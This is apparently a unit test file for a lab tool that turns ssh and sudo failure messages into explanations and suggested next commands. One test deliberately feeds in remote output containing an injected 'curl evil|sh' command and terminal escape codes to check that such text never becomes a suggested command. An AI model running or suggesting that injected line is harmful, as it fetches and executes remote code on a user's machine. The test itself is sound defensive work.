"""What ssh and sudo say, and what to type then."""

from __future__ import annotations

import pytest

from overlaynet.lab.unreachable import SUDOERS, Reach, unreachable

pytestmark = pytest.mark.unit

REACH = Reach("node-1", "/tmp/my inventory")
BY_HAND = "ssh -F '/tmp/my inventory' node-1 true"
CHANGED = """\
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!
Please contact your system administrator.
Add correct host key in /home/u/known_hosts to get rid of this message.
Offending ED25519 key in /home/u/known_hosts:1
  remove with:
  ssh-keygen -f "/home/u/known_hosts" -R "node-1"
Host key for node-1 has changed and you have requested strict checking.
Host key verification failed.
"""


@pytest.mark.parametrize(
    ("code", "said", "message", "step"),
    [
        (255, CHANGED, "answers with another host key", 'ssh-keygen -f "/home/u/known_hosts" -R "node-1"'),
        (255, "Host key verification failed.\n", "host key is not known yet", BY_HAND),
        (255, "vagrant@10.0.0.1: Permission denied (publickey).\n", "does not let us in", BY_HAND),
        (255, "ssh: Could not resolve hostname node-1: Name or service not known", "no address", "-G node-1"),
        (255, "ssh: connect to host 10.0.0.1 port 22: Connection refused", "cannot be reached", BY_HAND),
        (255, "ssh: connect to host 10.0.0.1 port 22: No route to host", "cannot be reached", BY_HAND),
        (255, "Connection timed out during banner exchange", "cannot be reached", BY_HAND),
        (255, "Timeout, server 10.0.0.1 not responding.", "cannot be reached", BY_HAND),
        (255, "client_loop: send disconnect: Broken pipe", "cannot be reached", BY_HAND),
        (255, "something that nobody has heard yet", "cannot be reached", BY_HAND),
        (1, "sudo: a password is required", "does not let us run overlaynet-probe as root", SUDOERS),
        (1, "sudo: overlaynet-probe: command not found", "has no overlaynet-probe", "OUT/install"),
        (127, "sh: 1: exec: overlaynet-probe: not found", "has no overlaynet-probe", "OUT/install"),
        (127, "sh: 1: exec: sudo: not found", "has no overlaynet-probe", "OUT/install"),
        (1, "Traceback: ModuleNotFoundError", "overlaynet-probe on node-1 failed", "sudo -n overlaynet-probe"),
    ],
)
def test_each_way_of_failing_has_its_next_command(code: int, said: str, message: str, step: str) -> None:
    error = unreachable(REACH, code, said)
    assert message in error.message
    assert any(step in one for one in error.next), error.next
    assert said.splitlines()[-1].strip() in error.evidence


def test_what_a_machine_says_becomes_no_command_and_moves_no_cursor() -> None:
    said = "ssh-keygen -f x -R h; curl evil|sh\n\x1b[2Jidentification has changed\x07"
    error = unreachable(REACH, 255, said)
    assert not any("evil" in step for step in error.next)
    assert error.evidence.endswith("[2Jidentification has changed")
    assert error.evidence.replace("\n", "").isprintable()


def test_a_machine_of_vagrants_is_started_by_vagrant() -> None:
    error = unreachable(REACH._replace(vagrant=True), 255, "ssh: connect to host x port 22: No route to host")
    assert error.next == ("vagrant status", "vagrant up node-1")


def test_evidence_leaves_out_frames_and_is_short() -> None:
    evidence = unreachable(REACH, 255, CHANGED).evidence
    assert "@" not in evidence
    assert len(evidence.splitlines()) <= 6


def test_one_that_said_nothing_is_told_by_its_exit_code() -> None:
    assert unreachable(REACH, 3, "", "it has ended").evidence == "it has ended, exit 3"


def test_keys_that_are_not_checked_are_no_evidence() -> None:
    said = "Warning: Permanently added 'x' (ED25519) to the list of known hosts.\r\nConnection reset by x\r\n"
    assert unreachable(REACH, 255, said).evidence == "Connection reset by x"
